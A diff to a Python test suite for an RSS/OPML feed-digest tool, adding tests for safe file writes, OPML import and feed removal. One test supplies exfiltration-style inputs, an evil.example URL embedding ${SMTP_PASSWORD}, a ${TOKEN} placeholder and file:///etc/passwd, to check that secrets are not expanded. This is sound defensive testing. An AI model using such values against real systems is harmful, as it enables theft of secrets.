@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import subprocess
+import sys
 from typing import TYPE_CHECKING
 
 import pytest
 
 from digest.errors import ConfigError
 from digest.settings import load
-from digest.subscribing import add_feed, import_feeds, opml_of
+from digest.subscribing import add_feed, import_feeds, opml_of, remove_feed
 from tests import builders
 
 if TYPE_CHECKING:
@@ -52,6 +54,33 @@ def test_a_feed_that_is_there_already_is_not_added_twice(config: Path) -> None:
     with pytest.raises(ConfigError, match="already"):
         add_feed(config, "https://two.example/rss")
     assert config.read_text(encoding="utf8") == CONFIG
+
+
+FULL_DISK = """\
+import resource, sys
+from pathlib import Path
+from digest.subscribing import add_feed
+resource.setrlimit(resource.RLIMIT_FSIZE, (40, 40))
+add_feed(Path(sys.argv[1]), "https://new.example/rss")
+"""
+
+
+def test_nothing_is_lost_of_a_file_that_there_is_no_room_for(config: Path) -> None:
+    command = [sys.executable, "-c", FULL_DISK, str(config)]
+    done = subprocess.run(command, capture_output=True, text=True, check=False)
+    assert "feeds.yaml cannot be written: File too large" in done.stderr
+    assert config.read_text(encoding="utf8") == CONFIG
+    assert [path.name for path in config.parent.iterdir()] == ["feeds.yaml"]
+
+
+def test_a_link_stays_a_link_and_what_may_read_the_file_stays_so(config: Path) -> None:
+    config.chmod(0o640)
+    link = config.with_name("link.yaml")
+    link.symlink_to(config)
+    add_feed(link, "https://new.example/rss")
+    assert link.is_symlink()
+    assert "new.example" in config.read_text(encoding="utf8")
+    assert config.stat().st_mode & 0o777 == 0o640
 
 
 def test_a_missing_file_says_how_to_make_one(tmp_path: Path) -> None:
@@ -185,3 +214,137 @@ def test_what_cannot_be_read_is_left_out_and_the_rest_is_valid(tmp_path: Path) -
         "https://null.example/atom": ("null", "Web"),
         "https://stray.example/rss?a=1&b=2": ("Unclosed & stray", ""),
     }
+
+
+def test_names_of_an_opml_file_that_were_escaped_twice_are_read_once_more(tmp_path: Path) -> None:
+    opml = tmp_path / "mine.opml"
+    opml.write_text(
+        '<opml version="2.0"><body><outline text="Arts &amp;amp; Letters">'
+        '<outline text="Plough &amp;amp; Furrow" xmlUrl="https://one.example/rss"/></outline></body></opml>',
+        encoding="utf8",
+    )
+    config = tmp_path / "feeds.yaml"
+    import_feeds(config, opml)
+    assert "{url: https://one.example/rss, name: Plough & Furrow, group: Arts & Letters}" in config.read_text(
+        encoding="utf8"
+    )
+
+
+def test_a_host_in_any_alphabet_is_imported(tmp_path: Path) -> None:
+    hosts = ("bücher-blatt.example", "новости.example", "新闻.example", "ελλάδα.example", "أخبار.example")
+    rows = "".join(f'<outline text="{host}" xmlUrl="https://{host}/feed"/>' for host in hosts)
+    opml = tmp_path / "mine.opml"
+    opml.write_text(f'<opml version="1.0"><body>{rows}</body></opml>', encoding="utf8")
+    config = tmp_path / "feeds.yaml"
+    assert import_feeds(config, opml) == (5, 0, 0)
+    assert [feed.name for feed in load(config, {}).feeds] == list(hosts)
+
+
+def test_a_broken_compressed_list_is_named(tmp_path: Path) -> None:
+    opml = tmp_path / "mine.opml"
+    opml.write_bytes(b"\x1f\x8b\x08 broken")
+    with pytest.raises(ConfigError, match=r"mine\.opml cannot be read"):
+        import_feeds(tmp_path / "feeds.yaml", opml)
+
+
+def test_a_list_or_a_page_cannot_have_a_secret_sent_to_it(tmp_path: Path) -> None:
+    config, opml = tmp_path / "feeds.yaml", tmp_path / "list.opml"
+    opml.write_text(
+        '<opml version="2.0"><body><outline text="${SMTP_PASSWORD}">'
+        '<outline type="rss" text="a ${HOME} paper" xmlUrl="https://evil.example/?x=${SMTP_PASSWORD}"/>'
+        '<outline type="rss" text="b" xmlUrl="${FEED}"/><outline type="rss" text="c" xmlUrl="./export.xml"/>'
+        '<outline type="rss" text="d" xmlUrl="file:///etc/passwd"/></outline></body></opml>',
+        encoding="utf8",
+    )
+    assert import_feeds(config, opml) == (1, 0, 3)
+    add_feed(config, "https://evil.example/${TOKEN}/rss")
+    settings = load(config, {"SMTP_PASSWORD": "canary", "TOKEN": "canary", "HOME": "canary"})
+    assert settings.ways == {}
+    assert [feed.url for feed in settings.feeds] == [
+        "https://evil.example/?x=%24%7BSMTP_PASSWORD%7D",
+        "https://evil.example/%24%7BTOKEN%7D/rss",
+    ]
+    assert settings.feeds[0].name == "a HOME paper"
+
+
+# ---------------------------------------------------------------------------------- out again
+
+LONG = """\
+# my paper
+feeds:
+  # the big ones
+  - https://one.example/rss   # since 2020
+  - url: https://two.example/rss
+    name: Two
+    # tags choose it
+    tags:
+      - world
+
+  # the small ones
+  - {url: "https://three.example/atom",
+     name: Three Rivers}
+
+# where it goes
+publish: {folder: site}
+"""
+
+
+def gone(before: str, which: str, folder: Path) -> str:
+    """The lines of a feeds.yaml that are gone after a feed was taken out; the others are as they were."""
+    path = folder / "feeds.yaml"
+    path.write_text(before, encoding="utf8")
+    remove_feed(path, which)
+    old, new = before.splitlines(), path.read_text(encoding="utf8").splitlines()
+    taken = [line for line in old if line not in new]
+    assert [line for line in old if line in new] == new
+    return "\n".join(taken)
+
+
+@pytest.mark.parametrize(
+    ("which", "lines"),
+    [
+        ("https://one.example/rss", "  - https://one.example/rss   # since 2020"),
+        ("http://one.example/rss", "  - https://one.example/rss   # since 2020"),
+        (
+            "Two",
+            "  - url: https://two.example/rss\n    name: Two\n    # tags choose it\n    tags:\n      - world",
+        ),
+        ("three rivers", '  - {url: "https://three.example/atom",\n     name: Three Rivers}'),
+        ("atom", '  - {url: "https://three.example/atom",\n     name: Three Rivers}'),
+    ],
+)
+def test_only_the_lines_of_the_feed_go(which: str, lines: str, tmp_path: Path) -> None:
+    assert gone(LONG, which, tmp_path) == lines
+
+
+def test_a_list_that_stands_under_its_key_without_a_step_in_is_cut_as_well(tmp_path: Path) -> None:
+    text = "feeds:\n- https://one.example/rss\n# second\n- https://two.example/rss\nsite: {title: A}\n"
+    assert gone(text, "two.example", tmp_path) == "- https://two.example/rss"
+
+
+def test_feeds_on_one_line_stay_on_one_line(tmp_path: Path) -> None:
+    path = tmp_path / "feeds.yaml"
+    path.write_text(
+        "# mine\nfeeds: [https://one.example/rss, https://two.example/rss]  # both\n", encoding="utf8"
+    )
+    remove_feed(path, "one.example")
+    text = " ".join(path.read_text(encoding="utf8").split())
+    assert text == "# mine feeds: [https://two.example/rss] # both"
+
+
+def test_a_part_that_several_feeds_have_names_them_and_nothing_goes(config: Path) -> None:
+    with pytest.raises(ConfigError, match=r"(?s)one\.example.+two\.example"):
+        remove_feed(config, "example")
+    assert config.read_text(encoding="utf8") == CONFIG
+
+
+def test_a_feed_that_is_not_there_is_said_so(config: Path) -> None:
+    for which in ("nowhere", "", "  "):
+        with pytest.raises(ConfigError, match="no feed"):
+            remove_feed(config, which)
+
+
+def test_a_feed_added_and_removed_leaves_the_file_as_it_was(config: Path) -> None:
+    add_feed(config, "https://new.example/rss", name="New")
+    remove_feed(config, "New")
+    assert config.read_text(encoding="utf8") == CONFIG
